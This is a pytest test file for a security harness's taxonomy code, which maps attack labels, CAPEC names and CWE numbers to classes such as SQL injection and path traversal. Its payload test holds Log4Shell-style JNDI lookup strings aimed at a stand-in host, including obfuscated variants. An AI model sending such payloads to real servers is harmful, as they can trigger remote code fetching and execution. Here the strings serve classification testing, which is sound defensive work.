"""The taxonomy: names and CWEs of classes, kinds of classes, and techniques."""

import pytest

from harness.data.taxonomy import (
    ANCHORS,
    CLASS_OF_CWE,
    class_named,
    class_of_payload,
    classes_of,
    most_specific,
    threat_class,
    unrecognised,
    without_class_words,
)


@pytest.mark.parametrize(
    ("text", "name"),
    [
        ("SqlInjection", "sql-injection"),
        ("SQL Injection", "sql-injection"),
        ("sql_injection", "sql-injection"),
        ("SQLi", "sql-injection"),
        ("66 - SQL Injection", "sql-injection"),
        ("CAPEC-66: SQL Injection", "sql-injection"),
        ("Blind SQL Injection (time-based)", "sql-injection"),
        ("Cross-Site Scripting (XSS)", "cross-site-scripting"),
        ("Reflected XSS", "cross-site-scripting"),
        ("Web Attack \N{EN DASH} XSS", "cross-site-scripting"),
        ("XSS attack", "cross-site-scripting"),
        ("Attack (XSS)", "cross-site-scripting"),
        ("PathTransversal", "path-traversal"),
        ("Directory Traversal", "path-traversal"),
        ("Local File Inclusion (LFI)", "path-traversal"),
        ("OsCommanding", "command-injection"),
        ("OS Command Injection", "command-injection"),
        ("CommandInjection", "command-injection"),
        ("LdapInjection", "ldap-injection"),
        ("XPathInjection", "xpath-injection"),
        ("SSI", "server-side-include"),
        ("Server Side Template Injection", "template-injection"),
        ("XML External Entity (XXE) Injection", "xml-external-entity"),
        ("Server-Side Request Forgery", "server-side-request-forgery"),
        ("CWE-79", "cross-site-scripting"),
        ("cwe 89, CWE_564", "sql-injection"),
        ("CWE-94 CWE-1336", "template-injection"),
        ("CWE-20 CWE-22", "path-traversal"),
        ("CWE-79 CWE-89", None),
        ("CWE-20", None),
        ("XSS (SQL injection)", "cross-site-scripting"),
        ("(XSS) (SQLi)", None),
        ("RCE", None),
        ("injection", None),
        ("attack", None),
        ("Valid", None),
        ("", None),
    ],
)
def test_classes_have_many_names(text: str, name: str | None) -> None:
    assert class_named(text) == name


def test_labels_that_are_not_recognised_are_named() -> None:
    labels = ["SqlInjection", "Valid", "csrf", "Normal", "ssrf_xxe", "csrf", "272 - Protocol Manipulation", "CWE-352"]
    assert unrecognised(labels) == ["csrf", "272 - Protocol Manipulation", "CWE-352"]
    assert unrecognised([*ANCHORS, "benign", "code_injection"]) == []


def test_every_kind_of_path_traversal_is_path_traversal() -> None:
    assert {CLASS_OF_CWE[number] for number in range(22, 41)} == {"path-traversal"}


def test_the_more_specific_class_is_taken() -> None:
    assert most_specific(["code-injection", "template-injection"]) == "template-injection"
    assert most_specific(["sql-injection"]) == "sql-injection"
    assert most_specific(["sql-injection", "cross-site-scripting"]) is None
    assert most_specific(["template-injection", "server-side-include", "code-injection"]) is None
    assert most_specific([]) is None


@pytest.mark.parametrize(
    ("payload", "names", "name"),
    [
        (b"GET /?a=${jndi:ldap://a.example/b}", {"deserialization"}, "template-injection"),
        (b"GET /?a=${${::-j}${::-n}di:rmi://a.example}", {"code-injection", "deserialization"}, "template-injection"),
        (b"GET /?a=${${lower:jndi}:${lower:rmi}://a.example}", {"command-injection"}, "template-injection"),
        (b"GET /?a=${jndi:ldap://a.example/b}", {"sql-injection"}, "sql-injection"),
        (b"GET /?a=${jndi:ldap://a.example/b}", set(), None),
        (b"GET /?a=${b:c}", {"code-injection"}, "code-injection"),
        (b'{"@type": "com.example.A"}', {"code-injection"}, "deserialization"),
        (b'{"type": "com.example.A"}', {"code-injection", "deserialization"}, None),
    ],
)
def test_a_technique_has_one_class(payload: bytes, names: set[str], name: str | None) -> None:
    assert class_of_payload(payload, names) == name


def test_every_class_has_an_anchor_and_covers_itself() -> None:
    assert all(classes_of(name) == {name} and threat_class(name).anchor == ANCHORS[name] for name in ANCHORS)
    assert classes_of("code_injection") == {"code-injection", "template-injection"}


@pytest.mark.parametrize(
    ("text", "rest"),
    [
        ("SQL injection in the search form", "in the search form"),
        ("A Cross-Site Scripting (XSS) flaw via a comment", "A ( ) flaw via a comment"),
        ("OS-command injections run a shell", "run a shell"),
        ("uploads of files, SSRF and open redirects", "of , and"),
        ("changes a query of the database server", "changes a query of the database server"),
    ],
)
def test_texts_without_the_words_of_classes(text: str, rest: str) -> None:
    assert without_class_words(text) == rest
